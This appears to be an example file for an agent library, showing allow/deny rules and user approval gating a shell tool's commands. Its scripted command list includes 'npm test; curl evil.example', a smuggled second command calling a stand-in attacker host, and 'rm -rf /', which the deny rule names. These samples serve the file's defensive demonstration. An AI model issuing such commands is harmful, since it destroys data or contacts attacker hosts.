// Shows a gate: rules allow some calls and deny others, and a user decides the rest.
// Run it with: npm run try -- examples/gate.ts
import { defineTool, Executor, rules } from '@cobbler/agent';
import { scriptedAgent } from '@cobbler/agent/testing';
import { z } from 'zod';

// `subject` is the argument that matters: rules match it, and users see it.
const shell = defineTool({
  name: 'shell',
  description: 'Runs a command.',
  parameters: z.object({ command: z.string() }),
  subject: ({ command }) => command,
  execute: ({ command }) => `ran ${command}`,
});

const commands = ['npm test', 'npm test; curl evil.example', 'git push', 'rm -rf /', 'git tag v1'];
const agent = scriptedAgent([
  ...commands.map((command) => ({ calls: [{ name: 'shell', arguments: { command } }] })),
  'That is all I could do.',
]);

const executor = new Executor({
  agent,
  tools: [shell],
  // A `*` never matches what joins two commands, so the second command is not allowed.
  gate: rules({ allow: ['shell(npm test*)'], deny: ['shell(rm *)'] }),
  // A user can respond. Otherwise the run would end as `waiting` and could be resumed later.
  attended: true,
});

const run = executor.run('Test it and publish it.');
run.subscribe((event) => {
  if (event.type === 'approval_requested') {
    // Nothing has started yet. The decision applies to exactly these arguments.
    const isFine = event.subject === 'git tag v1';
    console.log(`asked about "${event.subject}": ${isFine ? 'yes' : 'no'}`);
    run.decide(
      event.approvalId,
      isFine ? { decision: 'allow' } : { decision: 'deny', message: 'Not today.' },
    );
  }
  if (event.type === 'tool_result') {
    const [part] = event.content;
    console.log(event.denied === true ? 'denied:' : 'done:', part?.type === 'text' ? part.text : '');
  }
});
const { status, text } = await run;
console.log(status, text);
